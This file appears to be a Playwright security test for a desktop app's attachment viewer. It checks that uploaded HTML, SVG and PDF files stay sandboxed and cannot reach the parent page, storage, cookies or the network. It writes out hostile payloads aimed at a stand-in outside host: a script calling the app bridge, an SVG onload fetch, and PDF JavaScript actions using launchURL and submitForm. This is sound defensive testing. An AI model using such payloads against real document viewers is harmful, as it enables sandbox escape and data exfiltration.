/** Each imagined attack from inside an attachment is a test: what its viewer shows reaches nothing. */
import { expect, test } from '@playwright/test'
import { attackedApp } from './attacked-app.ts'
import type { AttackedApp } from './attacked-app.ts'

let attacked: AttackedApp

test.beforeAll(async () => {
  attacked = await attackedApp()
})

test.afterAll(() => attacked.close())

/** One empty page, and what a catalog and a page may say besides. */
function minimalPdf(catalog: string, page: string): string {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] ${page} >>`,
  ]
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('')
  return `%PDF-1.7\n${body}trailer << /Root 1 0 R /Size 4 >>\n%%EOF\n`
}

test('what is in an attachment reaches nothing from its viewer', async () => {
  const { window } = attacked
  expect(await attacked.ask('registry.open', { folder: attacked.demo, passphrase: 'demo' })).toMatchObject({ ok: true })
  const caseId = await attacked.idOfCase('AS-0001')
  const attack = `<script>parent.bridge.call(1,'registry.close','{}');location='${attacked.outside}'</script>`
  const active = `/AA << /O << /S /JavaScript /JS (app.launchURL\\("${attacked.outside}"\\)) >> >>`
  const link = `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (${attacked.outside}) >> >>]`
  const files = {
    'page.html.txt': attack,
    'drawing.svg.txt': `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${attacked.outside}')">${attack}</svg>`,
    'active.pdf': minimalPdf(
      `/OpenAction << /S /JavaScript /JS (this.submitForm\\("${attacked.outside}"\\)) >>`,
      `${active} ${link}`,
    ),
  }
  for (const [fileName, text] of Object.entries(files)) {
    const base64 = Buffer.from(text, 'latin1').toString('base64')
    const values = { title: fileName }
    expect(await attacked.ask('attachments.store', { caseId, values, fileName, base64 })).toMatchObject({ ok: true })
  }
  // The page itself opened no registry: it looks anew.
  await window.reload()
  await expect(window.getByRole('grid')).toBeVisible()
  await window.evaluate((route) => void (location.hash = route), `/cases/${caseId}/record?form=attachment`)
  const address = window.url()
  for (const fileName of Object.keys(files)) {
    await window.getByRole('row', { name: new RegExp(fileName) }).focus()
    await window.keyboard.press('o')
    await expect.poll(() => window.evaluate(() => document.activeElement?.tagName)).toBe('IFRAME')
    const frame = window.frames().find((each) => each !== window.mainFrame())!
    expect(frame.url()).toMatch(/^app:\/\/local\/viewer\.html$/)
    await expect(frame.locator(fileName.endsWith('.pdf') ? 'canvas' : 'pre')).toBeVisible()
    expect(await frame.locator('script:not([src]), svg, a, form, iframe').count()).toBe(0)

    // Suppose that the file had taken the frame over: everything it could try from there.
    const tried = await frame.evaluate(async (to) => {
      const outcome = async (work: () => unknown) => {
        try {
          return (await work()) ? 'done' : 'nothing'
        } catch {
          return 'refused'
        }
      }
      return {
        origin: self.origin,
        bridge: 'bridge' in self,
        bridgeOfPage: await outcome(() => (parent as unknown as { bridge: unknown }).bridge),
        document: await outcome(() => parent.document),
        storage: await outcome(() => localStorage),
        cookie: await outcome(() => document.cookie),
        fetch: await outcome(() => fetch(to)),
        ownPage: await outcome(() => fetch('app://local/index.html')),
        window: await outcome(() => self.open(to)),
        top: await outcome(() => (top!.location.href = to)),
        self: await outcome(() => void (location.href = to)),
        page: await outcome(() => void (location.href = 'app://local/index.html')),
        inner: await outcome(() => {
          const inside = Object.assign(document.createElement('iframe'), { src: 'app://local/viewer.html' })
          document.body.append(inside)
        }),
        script: await outcome(() => {
          const script = document.createElement('script')
          script.textContent = 'globalThis.ran = true'
          document.body.append(script)
          return 'ran' in globalThis
        }),
        // Later, in a task of the page's own: what the test itself runs may evaluate text.
        eval: await outcome(
          () =>
            new Promise((resolve, reject) =>
              setTimeout(() => {
                try {
                  resolve(Reflect.construct(Function, ['return true'])())
                } catch (error) {
                  reject(error)
                }
              }, 50),
            ),
        ),
        form: await outcome(() => {
          const form = Object.assign(document.createElement('form'), { action: to, method: 'post' })
          document.body.append(form)
          form.submit()
        }),
      }
    }, attacked.outside)
    expect(tried).toEqual({
      origin: 'null',
      bridge: false,
      bridgeOfPage: 'refused',
      document: 'refused',
      storage: 'refused',
      cookie: 'refused',
      fetch: 'refused',
      ownPage: 'refused',
      window: 'nothing',
      top: 'refused',
      self: 'nothing',
      page: 'nothing',
      inner: 'nothing',
      script: 'nothing',
      eval: 'refused',
      form: 'nothing',
    })
    // What it says is not taken for more than it may say.
    await frame.evaluate(() => parent.postMessage({ type: 'changed', id: 1, name: 'registry.close', input: '{}' }, '*'))
    expect(await frame.evaluate(() => location.href)).toBe('app://local/viewer.html')
    expect(frame.childFrames().filter((inner) => inner.url().startsWith('app:'))).toEqual([])
    await window
      .getByRole('dialog')
      .getByRole('button', { name: /^Close/ })
      .click()
    await expect(window.getByRole('dialog')).toBeHidden()
  }
  expect(window.url()).toBe(address)
  expect(attacked.visits).toEqual([])
  expect(await attacked.ask('registry.status', {})).toMatchObject({ value: expect.stringContaining('"open"') })
})

test('the viewer has no origin even where nobody takes it away, and no other page stands in a frame', async () => {
  const policy = await attacked.app.evaluate(async ({ session }) => {
    const response = await session.defaultSession.fetch('app://local/viewer.html')
    return response.headers.get('Content-Security-Policy') ?? ''
  })
  for (const part of ['sandbox allow-scripts;', "default-src 'none'", "frame-ancestors 'self'"])
    expect(policy).toContain(part)
  expect(policy).not.toMatch(/'unsafe-|https?:|\*/)
  const framed = await attacked.window.evaluate(async () => {
    const frame = Object.assign(document.createElement('iframe'), { src: 'app://local/index.html' })
    document.body.append(frame)
    await new Promise((resolve) => setTimeout(resolve, 500))
    const shown = frame.contentDocument?.querySelector('#root')
    frame.remove()
    return Boolean(shown)
  })
  expect(framed).toBe(false)
})
